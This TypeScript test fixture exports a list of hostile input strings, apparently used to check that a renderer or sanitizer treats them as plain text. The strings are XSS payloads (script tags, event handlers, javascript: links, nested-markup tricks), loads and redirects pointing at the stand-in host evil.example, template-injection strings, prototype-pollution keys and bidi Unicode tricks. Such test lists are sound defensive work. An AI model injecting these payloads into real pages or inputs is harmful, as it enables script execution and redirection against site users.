/**
 * Texts that would do something where somebody takes them for more than text: each sets `window.hacked`, opens a
 * dialog, makes an element, or asks another site for something.
 */
export const hostileTexts: readonly string[] = [
  '<script>window.hacked=1;alert(1)</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<img src=x onerror="window.hacked=1;alert(1)">',
  '<img src="https://evil.example/p.png">',
  '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1"></svg>',
  '"><iframe src="javascript:parent.hacked=1"></iframe>',
  '\'"--></style></script></textarea></title><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/s.css";*{background:url(https://evil.example/b)}</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="prefetch" href="https://evil.example/"><form action="https://evil.example/"><button>Go',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<details open ontoggle="window.hacked=1"><summary>more</summary></details>',
  '<video autoplay src="https://evil.example/v.mp4"></video><object data="https://evil.example/o"></object>',
  '[a link](javascript:window.hacked=1) [b](data:text/html,<script>alert(1)</script>)',
  '![a picture](https://evil.example/p.png) <https://evil.example/auto>',
  '[reference]: https://evil.example/ "x"\n\n[reference] ![reference]',
  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} #{7*7} <%= 7*7 %>',
  '__proto__ constructor.prototype %3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;',
  'u\u202Eexe.gpj \u2066bidi\u2069 \uFEFF\u0085\u2028<b id="hacked">late</b>',
]

/** All of them in one text, a line each. */
export const hostileText = hostileTexts.map((text) => text.replaceAll('\n', ' ')).join('\n')
